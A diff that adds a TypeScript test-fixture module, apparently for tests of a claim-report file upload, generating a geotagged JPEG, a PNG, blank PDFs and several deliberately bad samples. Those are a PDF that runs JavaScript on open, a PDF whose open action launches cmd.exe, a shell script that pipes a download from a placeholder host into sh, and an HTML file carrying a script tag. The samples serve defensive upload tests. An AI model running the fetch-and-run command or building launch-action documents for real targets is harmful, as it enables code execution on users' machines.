@@ -1,0 +1,53 @@
+/** Files the tests of claim-report-files send: real photos and PDFs made here, and the bad ones of issue 22. */
+import { PDFDocument, PDFName, PDFString } from 'pdf-lib';
+import sharp from 'sharp';
+
+/** A JPEG photo as a phone writes it: its EXIF with camera, time taken and GPS position (Milan). */
+export function phonePhoto(width = 4000, height = 3000) {
+  return sharp({ create: { width, height, channels: 3, background: '#3366aa' } })
+    .jpeg()
+    .withExif({
+      IFD0: { Make: 'TestCam', Model: 'X1' },
+      IFD2: { DateTimeOriginal: '2026:11:20 10:11:12' },
+      IFD3: {
+        GPSLatitudeRef: 'N',
+        GPSLatitude: '45/1 27/1 5000/100',
+        GPSLongitudeRef: 'E',
+        GPSLongitude: '9/1 11/1 2000/100',
+      },
+    })
+    .toBuffer();
+}
+
+/** A small PNG with transparency. */
+export const smallPng = (width = 40, height = 30) =>
+  sharp({ create: { width, height, channels: 4, background: { r: 200, g: 10, b: 10, alpha: 0.5 } } })
+    .png()
+    .toBuffer();
+
+/** A PDF of `pages` blank pages. */
+export async function plainPdf(pages = 1) {
+  const document = await PDFDocument.create();
+  for (let i = 0; i < pages; i++) document.addPage();
+  return Buffer.from(await document.save());
+}
+
+/** A PDF that runs JavaScript when opened. */
+export async function scriptedPdf() {
+  const document = await PDFDocument.create();
+  document.addPage();
+  document.addJavaScript('hello', 'app.alert("ciao")');
+  return Buffer.from(await document.save());
+}
+
+/** A PDF whose opening launches a program. */
+export async function launchingPdf() {
+  const document = await PDFDocument.create();
+  document.addPage();
+  const action = document.context.obj({ Type: 'Action', S: 'Launch', F: PDFString.of('cmd.exe') });
+  document.catalog.set(PDFName.of('OpenAction'), document.context.register(action));
+  return Buffer.from(await document.save());
+}
+
+export const SCRIPT = Buffer.from('#!/bin/sh\ncurl http://example.invalid/x | sh\n');
+export const HTML = Buffer.from('<!doctype html><html><body><script>alert(1)</script></body></html>\n');
